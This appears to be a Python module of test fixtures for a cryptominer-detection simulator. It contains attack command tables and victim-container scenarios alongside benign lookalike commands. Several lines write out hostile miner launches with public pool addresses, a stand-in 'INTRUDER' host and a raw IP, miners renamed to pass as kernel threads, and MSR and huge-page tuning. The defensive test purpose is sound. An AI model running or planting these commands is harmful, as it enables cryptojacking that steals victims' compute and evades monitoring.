"""Miners of coins that are at work: by name, by arguments, by how they are started and what they tune."""

from __future__ import annotations

from simulation.attacks.commands_miners import ARTIFACTS, ETHER_WALLET, EXECUTION, LAUNCHER, MINING, RUNNER, WALLET
from simulation.attacks.register import careful, straight
from simulation.attacks.scene import Scene
from simulation.attacks.shells import Shell, Started
from simulation.attacks.tables import Place, line, run, table
from simulation.clock import SECOND
from simulation.schedule import Life

POOL = f"-o pool.hashvault.pro:80 -u {WALLET}"

table(
    ARTIFACTS,
    straight=[
        run("/usr/local/bin/xmrig --config=/etc/xmrig/config.json", at=Place.ENTRY),
        run(
            f"./lolMiner --algo ETHASH --pool eth.2miners.com:2020 --user {ETHER_WALLET}",
            at=Place.EXEC,
            cwd="/opt/lolMiner",
            also=(MINING,),
        ),
        run("/app/cpuminer-sse2 --benchmark", at=Place.EXEC),
    ],
    careful=[
        run(
            "/usr/lib/systemd/systemd-journald --donate-level=0 --cpu-max-threads-hint=50 -c /etc/journal.json",
            at=Place.EXEC,
            also=(MINING,),
        ),
        line(
            f"exec -a '[kswapd0]' /srv/data/a -a cryptonight -o 37.59.43.131:443 -u {WALLET} -k",
            runs=[
                Started(
                    ("[kswapd0]", "-a", "cryptonight", "-o", "37.59.43.131:443", "-u", WALLET, "-k"),
                    binary="/srv/data/a",
                )
            ],
            interpreter="bash",
            at=Place.EXEC,
            also=(MINING,),
        ),
    ],
    quiet=[
        run("/usr/bin/python3 -m pm4py --miner inductive /data/events.xes", at=Place.ENTRY, workload=RUNNER),
        run("sysctl -w vm.nr_hugepages=1024", at=Place.DAEMON, under=("/bin/sh /usr/local/sbin/tune-postgres",)),
        run(
            "sysctl -w vm.nr_hugepages=512",
            at=Place.ENTRY,
            under=("/usr/local/bin/dpdk-setup --pages 512",),
            workload=RUNNER,
        ),
        run("head -n 5 /app/vendor/licenses/cgminer.txt", at=Place.EXEC),
    ],
)


@straight(ARTIFACTS, MINING)
def miner_tunes_its_processor(scene: Scene) -> Life:
    """A miner, xmrig, runs in a container, and opens the processor's registers and reserves large pages for itself."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    arguments = f"-o pool.supportxmr.com:443 -u {WALLET} --tls"
    miner = shell.run(f"/opt/xmrig {arguments}", ARTIFACTS, MINING, seconds=None)
    yield 2 * SECOND
    shell.run("modprobe msr allow_writes=on", ARTIFACTS, under=miner)
    yield SECOND
    shell.run("wrmsr -a 0x1a4 0xf", ARTIFACTS, under=miner)
    shell.run("sysctl -w vm.nr_hugepages=1280", ARTIFACTS, under=miner, after=SECOND)


@careful(ARTIFACTS, MINING)
def renamed_miner_reserves_pages(scene: Scene) -> Life:
    """A miner that calls itself a batch worker, with the arguments of a miner, reserves large pages."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    worker = Shell(scene, shell.run(f"/opt/batch/worker {POOL}", ARTIFACTS, MINING, seconds=None))
    yield 3 * SECOND
    steps = ["nproc", "sysctl -w vm.nr_hugepages=8"]
    worker.line("sysctl -w vm.nr_hugepages=$(nproc)", ARTIFACTS, runs=steps)


@careful(ARTIFACTS)
def miner_gets_its_config(scene: Scene) -> Life:
    """A script without a telling command line unpacks a miner: its config file is written beside the program."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    script = shell.run("/usr/bin/python3 /app/setup.py", seconds=40)
    yield 2 * SECOND
    shell.touch(script, "/opt/xmrig-6.22.2/config.json", ARTIFACTS, write=True)
    yield 4 * SECOND
    shell.run("/opt/xmrig-6.22.2/xmrig", ARTIFACTS, under=script, seconds=None)


PLAIN = f"-o pool.supportxmr.com:5555 -u {WALLET} -p x"
SYSUPD = f"-o INTRUDER:14444 -u {WALLET} -p x"

table(
    EXECUTION,
    straight=[
        line(
            f"chmod +x xmrig && ./xmrig {PLAIN} -B",
            runs=["chmod +x xmrig", f"./xmrig {PLAIN} -B"],
            at=Place.EXEC,
            cwd="/opt",
            also=(MINING, ARTIFACTS),
        ),
        line(
            f"nohup ./sysupd {SYSUPD} --threads=$(nproc) >/dev/null 2>&1 &",
            runs=[
                "nproc",
                Started(f"nohup ./sysupd {SYSUPD} --threads=8", [f"./sysupd {SYSUPD} --threads=8"]),
            ],
            at=Place.EXEC,
            cwd="/opt",
            also=(MINING, ARTIFACTS),
        ),
        run(
            f"/tmp/kdevtmpfsi -o INTRUDER:3333 -u {WALLET} -p x",
            at=Place.EXEC,
            also=(MINING, ARTIFACTS, "K8S.NODE_CommonBot"),
            connects=("INTRUDER", 3333),
        ),
    ],
    careful=[
        line(
            f"screen -dmS db ./dbsync -o INTRUDER:7777 -u {WALLET} -p x",
            runs=[
                Started(
                    f"screen -dmS db ./dbsync -o INTRUDER:7777 -u {WALLET} -p x",
                    [f"./dbsync -o INTRUDER:7777 -u {WALLET} -p x"],
                )
            ],
            at=Place.EXEC,
            cwd="/srv",
            also=(MINING, ARTIFACTS),
        ),
        line(
            f"busybox nohup ./httpd2 -oINTRUDER:4444 -u{WALLET} -px",
            runs=[
                Started(
                    f"busybox nohup ./httpd2 -oINTRUDER:4444 -u{WALLET} -px",
                    [f"./httpd2 -oINTRUDER:4444 -u{WALLET} -px"],
                )
            ],
            at=Place.EXEC,
            cwd="/srv",
            also=(MINING, ARTIFACTS),
        ),
        line(
            f"cp /srv/m '/tmp/[kworker]' && '/tmp/[kworker]' -o INTRUDER:3333 -u {WALLET} -p x",
            runs=["cp /srv/m /tmp/[kworker]", f"/tmp/[kworker] -o INTRUDER:3333 -u {WALLET} -p x"],
            at=Place.EXEC,
            also=(MINING, ARTIFACTS),
        ),
        line(
            f'python3 -c "{LAUNCHER}"',
            runs=[
                Started(
                    ("python3", "-c", LAUNCHER),
                    [("/opt/lib/kthreadd", "-a", "rx/0", "-o", "gulf.moneroocean.stream:443", "-u", WALLET)],
                )
            ],
            at=Place.EXEC,
            also=(MINING, ARTIFACTS),
        ),
    ],
    quiet=[
        run("ssh -o ConnectTimeout=5 -p 4444 deploy@10.0.3.7 uptime", at=Place.EXEC),
        run("mysql -u app -p -h db.shop.svc -P 3333", at=Place.EXEC),
        run("docker run -d -u 1000 -p 3333:3333 registry.example/shop/web:1.4", at=Place.HOST),
        line("make -j$(nproc)", runs=["nproc", "make -j8"], at=Place.ENTRY, workload=RUNNER, cwd="/builds"),
        line(
            "nohup ./server -u app -p 7777 -o /var/log/app.log &",
            runs=[
                Started(
                    "nohup ./server -u app -p 7777 -o /var/log/app.log", ["./server -u app -p 7777 -o /var/log/app.log"]
                )
            ],
            at=Place.ENTRY,
            workload=RUNNER,
            cwd="/app",
        ),
    ],
)
